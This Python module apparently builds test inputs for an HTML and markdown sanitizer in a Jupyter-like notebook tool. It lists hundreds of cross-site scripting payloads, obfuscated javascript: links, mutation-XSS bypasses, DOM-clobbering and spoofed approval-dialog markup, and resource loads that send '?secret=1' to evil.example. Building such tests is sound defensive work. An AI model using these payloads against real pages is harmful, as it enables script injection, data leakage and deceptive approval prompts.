"""Markup that would run, load or navigate if a page interpreted it.

Code that runs sets ``window.hit``, loads request ``evil.example``: ``watch`` detects both.
Generated from tables where only a name differs, written by hand where the shape matters.
"""

from __future__ import annotations

from itertools import product

EVIL = "https://evil.example"


def _handlers() -> list[str]:
    """Elements whose handlers fire without or with a touch."""
    fires_alone = {
        "img src=x": ("onerror", "onload", "onloadstart"),
        f"img src={EVIL}/i": ("onerror", "onload"),
        "svg": ("onload", "onbegin", "onfocusin tabindex=1 autofocus"),
        "svg/": ("onload",),
        "body": ("onload", "onpageshow", "onfocus", "onhashchange", "onresize", "onscroll"),
        "video src=x": ("onerror", "onloadstart", "oncanplay"),
        "video": ("onloadstart",),
        "audio src=x": ("onerror", "onloadstart"),
        "input autofocus": ("onfocus", "onblur"),
        "input type=image src=x": ("onerror",),
        "textarea autofocus": ("onfocus",),
        "select autofocus": ("onfocus",),
        "keygen autofocus": ("onfocus",),
        "button autofocus": ("onfocus",),
        "a tabindex=1 autofocus href=#": ("onfocus", "onclick", "onauxclick"),
        "details open": ("ontoggle",),
        "marquee": ("onstart", "onfinish", "onbounce"),
        "object data=x": ("onerror", "onload"),
        "embed src=x": ("onerror", "onload"),
        "iframe src=x": ("onload", "onerror"),
        "iframe srcdoc=x": ("onload",),
        "link rel=stylesheet href=x": ("onerror", "onload"),
        "style": ("onload", "onerror"),
        "script src=x": ("onerror", "onload"),
        "track src=x": ("onerror",),
        "source src=x": ("onerror",),
        "math": ("onfocusin tabindex=1 autofocus", "onclick"),
        "div contenteditable autofocus": ("onfocus",),
        "div popover id=p1": ("onbeforetoggle", "ontoggle"),
        "dialog open": ("onclose", "oncancel"),
        "x style=animation:a": ("onanimationstart", "onanimationend"),
        "x style=transition:1s": ("ontransitionend", "ontransitionrun"),
        "p": (
            *("onmouseover", "onmouseenter", "onpointerover", "onpointerrawupdate", "onwheel"),
            *("oncopy", "oncut", "onpaste", "ondrag", "ondrop", "oncontextmenu", "onclick"),
            *("onselectstart", "onscrollend", "oncontentvisibilityautostatechange"),
        ),
    }
    return [
        f"<{element} {handler}=\"window.hit='{element} {handler}'\">held</{element.split()[0]}>"
        for element, handlers in fires_alone.items()
        for handler in handlers
    ]


def _loads() -> list[str]:
    """Elements that load external resources."""
    addresses = (f"{EVIL}/{{}}?secret=1", "//evil.example/{}", "\\\\evil.example\\{}")
    elements = (
        "<img src='{}'>",
        "<img srcset='{} 2x'>",
        "<img src=x alt=a lowsrc='{}' dynsrc='{}'>",
        "<picture><source srcset='{}'><img></picture>",
        "<video src='{}' autoplay></video>",
        "<video poster='{}'></video>",
        "<audio src='{}' autoplay></audio>",
        "<iframe src='{}'></iframe>",
        "<frameset><frame src='{}'></frameset>",
        "<embed src='{}'>",
        "<object data='{}'></object>",
        "<link rel=stylesheet href='{}'>",
        "<link rel=prefetch href='{}'>",
        "<link rel=preload as=image href='{}'>",
        "<link rel=dns-prefetch href='{}'>",
        "<link rel=icon href='{}'>",
        "<script src='{}'></script>",
        "<script type=module src='{}'></script>",
        "<style>@import '{}';</style>",
        "<style>*{{background:url({})}}</style>",
        "<style>@font-face{{font-family:a;src:url({})}}*{{font-family:a}}</style>",
        "<p style=\"background:url('{}')\">styled</p>",
        "<p style=\"list-style-image:url('{}');display:list-item\">styled</p>",
        "<table background='{}'><tr><td background='{}'>cell</td></tr></table>",
        "<input type=image src='{}'>",
        "<svg><image href='{}'/></svg>",
        "<svg><image xlink:href='{}'/></svg>",
        "<svg><use href='{}#a'/></svg>",
        "<svg><feImage href='{}'/></svg>",
        "<svg><style>@import '{}';</style></svg>",
        "<math><mglyph src='{}'></mglyph></math>",
        "<bgsound src='{}'>",
        "<base href='{}'><img src=relative.png>",
        "<meta http-equiv=refresh content='0;url={}'>",
        "<form action='{}'><button>go</button></form>",
        "<button formaction='{}' form=f>go</button>",
        "<a href='{}' ping='{}'>pinged</a>",
        "<track src='{}'>",
        "<portal src='{}'></portal>",
        "<fencedframe src='{}'></fencedframe>",
    )
    return [
        element.replace("{{", "{").replace("}}", "}").replace("{}", address.format(number))
        for number, (element, address) in enumerate(product(elements, addresses))
    ]


def _schemes() -> list[str]:
    """Script addresses, plain and disguised, in links of markdown and HTML."""
    programs = (
        "javascript:window.hit='scheme'",
        "JaVaScRiPt:window.hit='case'",
        " javascript:window.hit='space'",
        "\x01javascript:window.hit='control'",
        "java\tscript:window.hit='tab'",
        "java&#10;script:window.hit='newline'",
        "java&Tab;script:window.hit='entity'",
        "&#106;&#97;vascript:window.hit='numbers'",
        "javascript&colon;window.hit='colon'",
        "javascript&#58;window.hit='colon number'",
        "javascript://evil.example/%0awindow.hit='comment'",
        "vbscript:window.hit='vb'",
        "data:text/html,<script>top.hit='data'</script>",
        "data:text/html;base64,PHNjcmlwdD50b3AuaGl0PSdiNjQnPC9zY3JpcHQ+",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'/>",
        "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>top.hit=1</script></x>",
        "blob:https://evil.example/1",
        "filesystem:https://evil.example/1",
        "file:///etc/passwd",
        "feed:javascript:window.hit='feed'",
        "view-source:https://evil.example/",
        "ws://evil.example/",
        "about:blank",
        "livescript:window.hit='live'",
    )
    shapes = (
        "[markdown]({})",
        "![picture]({})",
        "<{}>",
        '<a href="{}">anchor</a>',
        '<img src="{}">',
        '[reference][r]\n\n[r]: {} "title"',
    )
    return [shape.replace("{}", program) for shape, program in product(shapes, programs)]


_COMMANDS = [
    f'<{tag} data-commandlinker-command="application:close-all"'
    f' data-commandlinker-args="{{}}" commandlinker="application:close-all">command</{tag}>'
    for tag in ("a href='#'", "button", "div", "span", "details open", "b")
]

_CLOBBERING = [
    *(
        f'<{tag} {attribute}="{name}">clobber</{tag}>'
        for tag, attribute, name in product(
            ("a", "img", "form", "span"), ("id", "name"), ("jupyterapp", "body", "main")
        )
    ),
    "<form id=attributes><input name=nodeName><input name=parentNode></form>",
    "<a id=defaultView><a id=defaultView name=href href=x>clobber</a>",
    "<div class='jp-Dialog shoulders-Approval'>the look of a card</div>",
    "<div class='lm-mod-hidden jp-Toolbar' role=alert aria-label='Allow once'>posing</div>",
    "<span slot=x part=y is=z itemscope>parts</span>",
    "<label for=shoulders-input>label</label>",
]

_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    '<math><mtext><table><mglyph><style><img title="</style><img src onerror=window.hit=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.hit=1></math>",
    "<svg><foreignObject><img src=x onerror=window.hit=1></foreignObject></svg>",
    "<svg><desc><img src=x onerror=window.hit=1></desc></svg>",
    "<svg><title><style><img src=x onerror=window.hit=1></style></title></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:window.hit=1 /></svg>",
    "<svg><set attributeName=onmouseover to=window.hit=1></svg>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><script href=data:text/javascript,window.hit=1 /></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text y=20>click</text></a></svg>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<!-- --!><img src=x onerror=window.hit=1> -->",
    "<![CDATA[><img src=x onerror=window.hit=1>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?><img src=x onerror=window.hit=1>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/dtd'>]><x>&e;</x>",
    "<textarea></textarea><img src=x onerror=window.hit=1>",
    "<title></title><img src=x onerror=window.hit=1></title>",
    "<xmp><img src=x onerror=window.hit=1></xmp>",
    "<plaintext><img src=x onerror=window.hit=1>",
    "<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>",
    "<select><template><img src=x onerror=window.hit=1></template></select>",
    "<img/src=x/onerror=window.hit=1>",
    '<img """><script>window.hit=1</script>">',
    "<img src=`x` onerror=`window.hit=1`>",
    "<IMG SRC=x OnErRoR=window.hit=1>",
    "<img src=x onerror\n=\nwindow.hit=1>",
    "<img\x0csrc=x\x0conerror=window.hit=1>",
    "<<script>script>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script\n>window.hit=1</script\n>",
    "<script>window.hit=1",
    "<a href=\"x\" onclick=window.hit=1 href='y'>twice</a>",
    "<p><p><p></b></i></table><img src=x onerror=window.hit=1>",
    "</div></section></body></html><img src=x onerror=window.hit=1>",
    "<body background=https://evil.example/bg><img src=x onerror=window.hit=1>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.hit=1&amp;gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "＜script＞window.hit=1＜/script＞",
    "<script/x>window.hit=1</script>",
    "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "<iframe src='javascript:top.hit=1'></iframe>",
    "<object type=text/html data='data:text/html,<script>top.hit=1</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5oaXQ9MSIvPg=='>",
    "<input type=hidden accesskey=x onclick=window.hit=1>",
    "<link rel=import href=https://evil.example/import>",
    "<isindex type=image src=1 onerror=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<details open ontoggle=window.hit=1><summary>more</summary>text</details>",
    "<style>*{position:fixed;inset:0}</style><div style='position:fixed;inset:0'>cover</div>",
    "<p hidden>hidden words</p><p aria-hidden=true>kept from readers</p>",
    "<a href='https://evil.example' target=_top rel=opener>leaves the lab</a>",
    "<a href='https://evil.example' download>downloads</a>",
]

_MARKDOWN = [
    "![](https://evil.example/image.png)",
    "![alt](https://evil.example/image.png 'title' )",
    "[![inner](https://evil.example/inner.png)](javascript:window.hit='nested')",
    "![ref][p]\n\n[p]: https://evil.example/reference.png",
    "[a](<javascript:window.hit='angles'>)",
    "[a](javascript\\:window.hit='escaped')",
    "[a](https://good.example@evil.example/)",
    "[https://good.example/?evil.example](https://evil.example/)",
    "[good.example](https://evil.example/good.example)",
    "<https://evil.example/auto>",
    "www.evil.example",
    "https://evil.example/" + "q" * 3_000,
    "```html\n<img src=https://evil.example/code.png onerror=\"window.hit='code'\">\n```",
    "```\"><img src=x onerror=window.hit='language'>\ncode\n```",
    "``` python onload=window.hit=1\nprint()\n```",
    "~~~svg\n<svg onload=window.hit=1>\n~~~",
    '```mermaid\nclick A href "javascript:window.hit=1"\n```',
    "`<img src=x onerror=window.hit='inline'>`",
    "    <img src=x onerror=window.hit='indented'>",
    "| a |\n|---|\n| <img src=x onerror=window.hit='table'> |",
    "| a |\n|---|\n| ![x](https://evil.example/table.png) |",
    "# <img src=x onerror=window.hit='heading'>",
    "> <script>window.hit='quote'</script>",
    "- [ ] <img src=x onerror=window.hit='task'>",
    "1. <iframe src=https://evil.example/list></iframe>",
    "text[^1]\n\n[^1]: <img src=x onerror=window.hit='footnote'>",
    "<b>*mixed <img src=x onerror=window.hit='mixed'>*</b>",
    "**<b onclick=window.hit=1>bold**</b>",
    "Setext <script>window.hit='setext'</script>\n===",
    "[x]: javascript:window.hit='definition'\n\n[x]",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5oaXQ9MSIvPg==)",
    '![a](data:image/png;base64,iVBORw0KGgo=" onerror="window.hit=1)',
    "$\\href{javascript:window.hit='math'}{x}$",
    "$$\\href{https://evil.example/math}{x}$$",
    "$\\style{background:url(https://evil.example/mathstyle)}{x}$",
    "$\\class{shoulders-Approval}{x}$",
    "$\\cssId{jupyterapp}{x}$",
    "$\\unicode[https://evil.example/font]{x41}$",
    "$\\require{html}\\href{javascript:window.hit=1}{x}$",
    "$\\text{<img src=x onerror=window.hit='mathtext'>}$",
    "$\\includegraphics{https://evil.example/graphics.png}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$<img src=x onerror=window.hit='dollar'>$",
    "\\(<img src=x onerror=window.hit='paren'>\\)",
    "\\[\\mmlToken{mi}[href='javascript:window.hit=1']{x}\\]",
    "$\\data{commandlinker-command=application:close-all}{x}$",
]

MARKUP: tuple[str, ...] = (
    *_handlers(),
    *_loads(),
    *_schemes(),
    *_COMMANDS,
    *_CLOBBERING,
    *_MUTATIONS,
    *_MARKDOWN,
)
"""All of them."""
